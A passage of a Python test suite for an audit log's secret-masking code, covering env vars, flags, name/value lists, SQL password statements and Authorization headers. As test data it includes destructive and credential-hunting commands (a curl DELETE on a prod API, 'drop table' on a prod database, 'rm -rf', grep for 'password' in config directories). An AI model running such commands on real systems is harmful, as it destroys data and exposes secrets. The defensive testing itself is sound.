    """`pass` was a secret's name as a key (`db_pass`) but not in text: DB_PASS=x,
    --pass=x and `smtp_pass: x` went into the log as written."""
    arguments = {
        "env": "DB_PASS=hunter2 SMTP_PASS=hunter3 ./migrate",
        "cmd": "login --pass=hunter4 --user ci",
        "yaml": "db_pass: hunter5",
        "flags": "bypass=1 compass=north passes=3",
    }
    raw = _stored(arguments)
    stored = json.loads(raw)
    assert stored["env"] == "DB_PASS=[secret] SMTP_PASS=[secret] ./migrate"
    assert stored["cmd"] == "login --pass=[secret] --user ci"
    assert stored["yaml"] == "db_pass: [secret]"
    assert stored["flags"] == arguments["flags"]
    assert "hunter" not in raw


def test_a_pair_spelled_as_name_and_value_entries_masks_a_secret_value(chain):
    """A Kubernetes env list, a HAR header list, AWS tags: the secret's name is a value
    under `name`/`key`, so the key check never saw it and its `value` was logged."""
    arguments = {
        "env": [
            {"name": "DB_PASSWORD", "value": "hunter2"},
            {"name": "LOG_LEVEL", "value": "debug"},
        ],
        "headers": [
            {"name": "X-Api-Token", "value": "hunter3"},
            {"name": "Accept", "value": "application/json"},
        ],
        "tags": [{"Key": "SigningKey", "Value": "hunter4"}, {"Key": "team", "Value": "ops"}],
    }
    raw = _stored(arguments)
    stored = json.loads(raw)
    assert stored["env"] == [
        {"name": "DB_PASSWORD", "value": "[masked]"},
        {"name": "LOG_LEVEL", "value": "debug"},
    ]
    assert stored["headers"] == [
        {"name": "X-Api-Token", "value": "[masked]"},
        {"name": "Accept", "value": "application/json"},
    ]
    assert stored["tags"] == [
        {"Key": "SigningKey", "Value": "[masked]"},
        {"Key": "team", "Value": "ops"},
    ]
    assert "hunter" not in raw


def test_masking_keys_keeps_ordinary_keys_and_every_entry(chain):
    stored = json.loads(
        _stored(
            {
                "labels": {"team-a": 1, "repo:acme/api": 2, "branch": "main"},
                "acl": {"a@example.com": "read", "b@example.com": "write"},
                "argv": ["git", "log", 3, "--oneline"],
            }
        )
    )
    assert stored["labels"] == {"team-a": 1, "repo:acme/api": 2, "branch": "main"}
    assert stored["acl"] == {"[email]": "read", "[email] #2": "write"}
    assert stored["argv"] == ["git", "log", 3, "--oneline"]


def test_an_outcome_excerpt_is_masked_before_it_is_cut(chain):
    event = _reported("x" * 980 + " mailed jane.doe@example.com ok")
    excerpt = json.loads(event.data)["excerpt"]
    assert "jane.doe@" not in excerpt and excerpt.endswith("mailed [email] ok"[: 1000 - 981])


@pytest.mark.parametrize(
    "cmd, secret, must_stay",
    [
        (
            "curl -H Authorization:$TOKEN -X DELETE https://prod.example.com/api/users/42",
            "$TOKEN",
            "-X DELETE https://prod.example.com/api/users/42",
        ),
        (
            "authorization: CAB-778 approved, drop table customers_2026 on prod-db",
            "CAB-778",
            "drop table customers_2026 on prod-db",
        ),
        ("curl -H 'Authorization: Token 9944b0919' https://x/y", "9944b0919", "https://x/y"),
        ("grep -rn password 'src/settings/'", None, "grep -rn password 'src/settings/'"),
        ('rg -i password "/srv/app/config"', None, 'rg -i password "/srv/app/config"'),
        (
            "rm -rf the exports identified by /srv/exports/stale",
            None,
            "rm -rf the exports identified by /srv/exports/stale",
        ),
        ("psql -c \"ALTER ROLE app PASSWORD 'n3w'\" prod", "n3w", "prod"),
    ],
)
def test_credential_forms_mask_the_credential_and_keep_the_rest(chain, cmd, secret, must_stay):
    stored = json.loads(_stored({"cmd": cmd}))["cmd"]
    assert must_stay in stored, stored
    if secret:
        assert secret not in stored, stored


def test_masking_many_keys_that_mask_alike_stays_linear(chain):
    """20,000 e-mail addresses as keys: each becomes `[email] #n`, counted, not searched
    for (a quadratic search pinned a worker for minutes per request)."""
    import time

    keys = {f"u{i}@ex.io": i for i in range(20_000)}
    started = time.perf_counter()
    masked = audit.mask(keys)
    assert len(masked) == 20_000 and masked["[email] #20000"] == 19_999
    # Not a speed claim (that is for benchmarks): a hang guard, 60x what it takes here;
    # the quadratic version ran for minutes.
    assert time.perf_counter() - started < 30


@pytest.mark.parametrize(
    "sql",
    [
        "CREATE USER 'app'@'localhost' IDENTIFIED BY 'hunter2-Pw';",
        "ALTER USER 'root'@'%' IDENTIFIED BY 'hunter2-Pw'",
        "SET PASSWORD FOR 'app'@'%' = PASSWORD('hunter2-Pw')",
        "ALTER ROLE \"svc-app\" WITH PASSWORD 'hunter2-Pw'",
        "CREATE ROLE app\n  LOGIN\n  PASSWORD 'hunter2-Pw';",
        "CREATE DATABASE LINK l CONNECT TO scott IDENTIFIED BY hunter2Pw USING 'x'",
    ],
)
def test_sql_that_sets_a_password_is_masked_in_its_common_spellings(chain, sql):
    stored = json.loads(_stored({"sql": sql}))["sql"]
    assert "hunter2" not in stored, stored
    assert "hunter2" not in audit.mask_review_text(sql + "\n")[0]


@pytest.mark.parametrize(
    "header",
    [
        "Authorization: GenieKey eb243592-faa2-4ba2-a551-1afdf565c889",
        "Authorization: Bot MTk4NjIyNDgzNDcxOTI1MjQ4.Cl2FMQ.ZnCjm1XVW7vRze4b7Cq4se7kKWs",
        "Authorization: DeepL-Auth-Key 279a2e9d-83b3-c416-7e2d-f721593e42a0:fx",
        "Authorization: Custom hunter2",
        'Authorization: Digest username="u", response="hunter2"',
    ],
)
def test_an_authorization_header_in_any_scheme_hides_its_credential(chain, header):
    credential = header.split()[-1].strip('"')
    cmd = f"curl -H '{header}' https://api.example.com/v2/x"
    stored = json.loads(_stored({"cmd": cmd}))["cmd"]
    assert credential not in stored and stored.endswith("' https://api.example.com/v2/x"), stored
    assert credential not in audit.mask_review_text(cmd + "\n")[0]


@pytest.mark.django_db(transaction=True)
def test_two_refused_checkpoint_jobs_at_once_record_the_damage_once(
    postgres_only, make_agent, settings, monkeypatch
):
    """Two checkpoint jobs at once over a damaged log (a backlog, two beats): each saw no
    failure recorded within the hour while the other was still walking the log, and
    the damage was recorded, and mailed to every admin, twice. A slowed walk stands in
    for a long log."""
    import threading
    import time

    from django.db import connection

    from governance import tasks

    make_agent()
    tasks.audit_checkpoint()
    newest = sorted(settings.AUDIT_CHECKPOINT_DIR.glob("checkpoint-*.json"))[-1]
    body = json.loads(newest.read_text())
    body["signature"] = "0" * 64  # damage: a checkpoint whose signature is not the key's
    newest.write_text(json.dumps(body))
    walk = audit.verify_chain

    def slow(*args, **kwargs):
        verdict = walk(*args, **kwargs)
        time.sleep(0.5)
        return verdict

    monkeypatch.setattr(audit, "verify_chain", slow)
    start, results = threading.Barrier(2), []

    def job() -> None:
        try:
            start.wait(10)
            results.append(tasks.audit_checkpoint())
        finally:
            connection.close()

    threads = [threading.Thread(target=job) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)

    assert [r["refused"] for r in results] == [True, True]
    # One record, and with it one alert (verify_and_record queues it with the event).
    assert AuditEvent.objects.filter(event_type="audit.verify_failed").count() == 1
